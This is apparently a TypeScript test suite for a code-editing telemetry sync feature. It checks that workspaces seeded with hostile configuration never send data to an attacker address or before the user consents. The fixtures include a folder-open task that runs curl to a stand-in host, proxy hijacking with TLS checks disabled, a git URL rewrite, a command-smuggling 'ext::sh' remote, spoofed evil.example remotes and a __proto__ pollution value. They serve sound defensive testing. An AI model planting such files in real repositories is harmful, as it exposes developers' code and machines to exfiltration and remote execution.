import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { agree, agreeToSink } from "../../../../server/sync/joining.ts";
import { batchOf, copilot, documentOf, editOf } from "../../../support/store/rows.ts";
import { temporaryFolder } from "../../../support/store/temporaryStore.ts";
import { invitationToken, makeMachine, type Machine } from "../../../support/sync/machine.ts";
import {
  membership,
  startScripted,
  type ScriptedCollector,
} from "../../../support/sync/scriptedCollector.ts";
import { shareFrom, type Shared } from "../../../support/sync/shared.ts";

/** What a repository can have checked in, to send what is recorded in it somewhere else; ELSEWHERE is an address. */
const traps: Readonly<Record<string, readonly string[]>> = {
  ".kept/policy.json": [
    '{"sync":true}',
    '{"sync":true,"endpoint":"ELSEWHERE"}',
    '{"collector":{"endpoint":"ELSEWHERE","headers":{"a":"b"},"remotes":["*"]}}',
    '{"endpoints":["ELSEWHERE"],"invitation":"INVITATION"}',
    '{"__proto__":{"sync":true},"sync":"allowed"}',
    "{",
  ],
  ".vscode/settings.json": [
    '{"http.proxy":"ELSEWHERE","http.proxySupport":"override","kept.sync.endpoint":"ELSEWHERE"}',
    '{"telemetry.telemetryLevel":"all","kept.ownFolder":"//ELSEWHERE/share"}',
  ],
  ".vscode/tasks.json": [
    '{"version":"2.0.0","tasks":[{"label":"kept","type":"shell","command":"curl ELSEWHERE","runOptions":{"runOn":"folderOpen"}}]}',
  ],
  ".env": [
    "HTTPS_PROXY=ELSEWHERE\nHTTP_PROXY=ELSEWHERE\nALL_PROXY=ELSEWHERE\nNODE_TLS_REJECT_UNAUTHORIZED=0\n",
    "OTEL_EXPORTER_OTLP_ENDPOINT=ELSEWHERE\nKEPT_HOME=/tmp\n",
  ],
  ".kept/rules/send.json": [
    '{"rules":[{"id":"x","message":"[click](command:kept.joinOrganisation)","actions":["ELSEWHERE"]}]}',
  ],
  ".kept/bundle.json": ['{"payload":"e30=","signatures":[]}'],
  ".gitconfig": ['[url "ELSEWHERE/"]\n\tinsteadOf = https://github.com/\n'],
};

/** Remotes that want to look like one of the organisation's, and are not. */
const remotes = [
  "https://github.com.evil.example/example/x",
  "https://evil.example/github.com/example/x",
  "https://github.com@evil.example/example/x",
  "git@evil.example:github.com/example/x",
  "https://github.com/example-evil/x",
  "https://github.com/evil/example/x",
  "file:///github.com/example/x",
  "ext::sh -c curl% ELSEWHERE",
  "https://github.com/EXAMPLE%2fx/../../evil/x",
  "*",
];

suite("A hundred hostile workspaces", () => {
  let collector: ScriptedCollector;
  let elsewhere: ScriptedCollector;
  let machine: Machine;
  let place: ReturnType<typeof temporaryFolder>;
  let folders: string[];
  let shared: Shared;

  setup(async () => {
    collector = await startScripted();
    elsewhere = await startScripted();
    place = temporaryFolder();
    machine = makeMachine();
    const asks = { status: 200, body: { ...membership, remotes: ["github.com/example/*"] } };
    collector.script("/v1/enrolment", asks);
    collector.script("GET /v1/device", asks, asks, asks);
    folders = Array.from({ length: 100 }, (_, number) => makeWorkspace(number));
    shared = shareFrom(machine, {
      folders: () => folders,
      policyFile: path.join(place.folder, "administrator.json"),
    });
  });
  teardown(async () => {
    shared.sharing.stop();
    machine.close();
    place.remove();
    await collector.close();
    await elsewhere.close();
  });

  /** Each has another mixture of all there is. */
  function makeWorkspace(number: number): string {
    const folder = path.join(place.folder, `workspace-${number}`);
    const say = (text: string) => text.replaceAll("ELSEWHERE", elsewhere.address);
    mkdirSync(path.join(folder, ".git"), { recursive: true });
    writeFileSync(path.join(folder, ".git", "HEAD"), "ref: refs/heads/main\n");
    const remote = say(remotes[number % remotes.length]!);
    const included = number % 3 === 0 ? "[include]\n\tpath = ../.gitconfig\n" : "";
    const rewritten = `[url "https://github.com/example/"]\n\tinsteadOf = ${remote}\n`;
    const config = `${included}[remote "origin"]\n\turl = ${remote}\n${number % 2 === 0 ? rewritten : ""}`;
    writeFileSync(path.join(folder, ".git", "config"), config);
    for (const [index, [name, texts]] of Object.entries(traps).entries()) {
      if ((number + index) % 5 === 4) continue;
      const file = path.join(folder, ...name.split("/"));
      mkdirSync(path.dirname(file), { recursive: true });
      const text = say(texts[(number + index) % texts.length]!);
      // A link out of the workspace, to a file that says the same.
      const target = path.join(place.folder, `link-${number}-${index}`);
      writeFileSync(number % 4 === 1 ? target : file, text);
      if (number % 4 === 1) symlinkSync(target, file);
    }
    return pathToFileURL(folder).href;
  }

  const work = (at: number) => {
    for (const [index, folder] of folders.entries()) {
      const uri = `${folder}/a.ts`;
      machine.store.write(
        batchOf({
          documents: [documentOf({ uri, workspace: folder })],
          edits: [editOf({ id: `${index} ${at}`, uri, at, version: index + 1, origin: copilot })],
        }),
      );
    }
  };

  test("S4: ask nobody anything while nobody agreed", async () => {
    work(machine.now());
    shared.sharing.changed();
    machine.tomorrow();
    await shared.pass();
    assert.deepEqual([shared.asked, elsewhere.received.length, collector.received.length], [[], 0, 0]);
  });

  test("S4: send nothing of theirs, and nothing anywhere else, once somebody agreed", async () => {
    const { host, store } = machine;
    agree(
      { endpoint: collector.address, keys: [], token: invitationToken },
      { host, store, bytes: randomBytes },
    );
    shared.sharing.changed();
    await shared.pass(3);
    shared.sharing.changed();
    machine.setNow(machine.now() + 1);
    work(machine.now());
    const reply = await shared.sharing.requests["kept/sync"]({});
    assert.ok(reply.ok);
    assert.deepEqual(
      reply.value.folders.filter(({ isWork }) => isWork),
      [],
    );
    machine.tomorrow();
    await shared.pass();
    assert.deepEqual([...new Set(shared.asked)], [collector.address]);
    assert.deepEqual([collector.batches().length, elsewhere.received.length], [0, 0]);
  });

  test("S4: have what the person calls work sent to where the person said, whatever is in them", async () => {
    const { host, store } = machine;
    agreeToSink({ endpoint: collector.address, headerNames: [] }, { host, store, bytes: randomBytes });
    for (const folder of folders)
      await shared.sharing.requests["kept/syncAct"]({ act: "mark", folder, mark: "work" });
    machine.setNow(machine.now() + 1);
    work(machine.now());
    machine.setNow(machine.now() + 8 * 86_400_000);
    await shared.pass(4);
    assert.deepEqual([...new Set(shared.asked)], [collector.address]);
    assert.equal(elsewhere.received.length, 0);
    assert.ok(collector.received.some(({ path: at }) => at === "/v1/logs"));
  });
});
